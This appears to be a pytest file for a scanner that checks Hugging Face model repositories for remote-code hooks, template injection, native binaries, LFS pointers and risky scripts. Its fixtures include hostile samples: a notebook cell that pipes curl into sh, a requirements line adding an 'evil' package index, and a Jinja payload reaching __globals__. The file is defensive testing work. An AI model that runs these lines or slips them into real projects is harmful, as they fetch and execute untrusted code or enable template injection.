"""Repository-level checks: auto_map resolution, code files, templates, scripts, LFS pointers."""

from __future__ import annotations

import hashlib
import json

from scanner.findings import Severity

from .helpers import all_rules, rules_of, snapshot

BENIGN_PY = "import torch\nfrom .utils import helper\n\nclass M(torch.nn.Module):\n    pass\n"


def _cfg(**kw: object) -> str:
    return json.dumps({"model_type": "x", **kw})


def test_auto_map_resolution_and_relative_imports() -> None:
    res = snapshot({"config.json": _cfg(auto_map={"AutoModel": "modeling_m.M"}), "modeling_m.py": BENIGN_PY,
                    "utils.py": "import os\ndef helper():\n    os.system('x')\n"})
    remote = [f for f in res["config.json"].findings if f.rule_id == "HF-REMOTE-CODE"]
    assert len(remote) == 1
    ev = remote[0].evidence
    assert ev["files"] == ["modeling_m.py", "utils.py"] and ev["class_defined_in_file"] is True
    assert ev["worst_severity"] == "high"
    assert "PY-DANGEROUS-CALL" in rules_of(res["utils.py"])


def test_missing_relative_import_and_target() -> None:
    res = snapshot({"config.json": _cfg(auto_map={"AutoModel": "modeling_m.M", "AutoConfig": "nope.C"}),
                    "modeling_m.py": BENIGN_PY})
    miss = [f for f in res["config.json"].findings if f.rule_id == "HF-AUTOMAP-MISSING"]
    assert {f.severity for f in miss} == {Severity.HIGH, Severity.MEDIUM}


def test_tokenizer_list_values_and_cross_repo() -> None:
    tok = json.dumps({"auto_map": {"AutoTokenizer": ["tok.Slow", "other/repo--tok.Fast"]}})
    res = snapshot({"tokenizer_config.json": tok, "tok.py": "class Slow:\n    pass\n"})
    assert {"HF-REMOTE-CODE", "HF-AUTOMAP-CROSS-REPO"} <= rules_of(res["tokenizer_config.json"])


def test_subfolder_config_resolves_relative_to_its_folder() -> None:
    res = snapshot({"sub/config.json": _cfg(auto_map={"AutoModel": "mod.M"}), "sub/mod.py": "class M:\n    pass\n"})
    assert "HF-AUTOMAP-MISSING" not in all_rules(res)
    assert "HF-REMOTE-CODE" in rules_of(res["sub/config.json"])


def test_custom_pipelines_custom_generate_modules_json_model_index() -> None:
    res = snapshot({
        "config.json": _cfg(custom_pipelines={"text-gen": {"impl": "pipe.P"}}), "pipe.py": "class P:\n    pass\n",
        "custom_generate/generate.py": "def generate(model):\n    return 1\n",
        "modules.json": json.dumps([{"idx": 0, "type": "sentence_transformers.models.Transformer"},
                                    {"idx": 1, "name": "c", "type": "custom_st.Pool"}]),
        "custom_st.py": "class Pool:\n    pass\n",
        "model_index.json": json.dumps({"_class_name": "StableDiffusionPipeline", "unet": ["diffusers", "UNet2DModel"],
                                        "scheduler": ["my_sched", "S"]}),
        "scheduler/my_sched.py": "class S:\n    pass\n",
    })
    keys = {f.evidence.get("key") for fr in res.values() for f in fr.findings if f.rule_id == "HF-REMOTE-CODE"}
    assert {"custom_pipelines.text-gen", "custom_generate", "modules.c", "model_index.scheduler"} <= keys


def test_trust_remote_code_flag() -> None:
    res = snapshot({"config.json": _cfg(trust_remote_code=True)})
    assert rules_of(res["config.json"]) == {"HF-TRUST-REMOTE-CODE-FLAG"}


def test_chat_templates_from_jinja_file_and_config() -> None:
    bad = "{{ self.__init__.__globals__ }}"
    res = snapshot({"chat_template.jinja": bad,
                    "tokenizer_config.json": json.dumps({"chat_template": "{% for m in messages %}{{ m.content }}{% endfor %}"})})
    assert "TEMPLATE-SSTI" in rules_of(res["chat_template.jinja"])
    assert not res["tokenizer_config.json"].findings


def test_python2_file_reported_unparseable() -> None:
    res = snapshot({"tokenization_old.py": 'print "hi"\n'})
    assert "PY-UNPARSEABLE" in rules_of(res["tokenization_old.py"])


def test_scripts_requirements_native() -> None:
    res = snapshot({"run.sh": "pip install x\n", "requirements.txt": "torch\n--extra-index-url http://evil/simple\n",
                    "lib.so": b"\x7fELF\x02\x01\x01" + bytes(9) + b"\x03\x00\x3e\x00" + bytes(40),
                    "model.dll": b"MZ" + bytes(0x3A) + (0x40).to_bytes(4, "little") + b"PE\x00\x00\x64\x86" + bytes(18)})
    assert "HF-SHELL-SCRIPT" in rules_of(res["run.sh"])
    req = [f for f in res["requirements.txt"].findings if f.rule_id == "HF-REQUIREMENTS"]
    assert req and req[0].severity is Severity.MEDIUM
    assert res["lib.so"].format == "native-binary" and res["model.dll"].format == "native-binary"


def test_lfs_pointer_matched_to_real_object() -> None:
    real = b"real weights " * 10
    oid = hashlib.sha256(real).hexdigest()
    ptr = f"version https://git-lfs.github.com/spec/v1\noid sha256:{oid}\nsize {len(real)}\n"
    from scanner.engine import ScanOptions, scan_snapshot
    from scanner.sources.base import Snapshot

    from .helpers import artifact

    snap = Snapshot(target="t", kind="local", resolved="r")
    snap.artifacts = [artifact(ptr.encode(), "pointer.bin"), artifact(real, "weights.txt")]
    results = scan_snapshot(snap, ScanOptions(compute_sha256=False))
    by = {fr.path: fr for fr in results}
    by["weights.txt"].sha256 = oid  # what the engine records for local files
    from scanner.limits import DEFAULT_LIMITS
    from scanner.repo.hf_repo import check_hf_repo
    from scanner.rules import get_rule_db

    check_hf_repo(snap, by, get_rule_db(), DEFAULT_LIMITS)
    f = next(f for f in by["pointer.bin"].findings if f.rule_id == "HF-LFS-POINTER")
    assert f.evidence["oid"] == oid and f.evidence["object_present_as"] == "weights.txt"


def test_notebook_shell_escape() -> None:
    nb = {"cells": [{"cell_type": "code", "source": ["!curl http://x | sh\n"]}], "nbformat": 4}
    res = snapshot({"n.ipynb": json.dumps(nb)})
    f = next(f for f in res["n.ipynb"].findings if f.rule_id == "HF-NOTEBOOK")
    assert f.severity is Severity.HIGH


def test_invalid_config_json_reported() -> None:
    res = snapshot({"config.json": "{not json"})
    assert "HF-CONFIG-INVALID" in rules_of(res["config.json"])
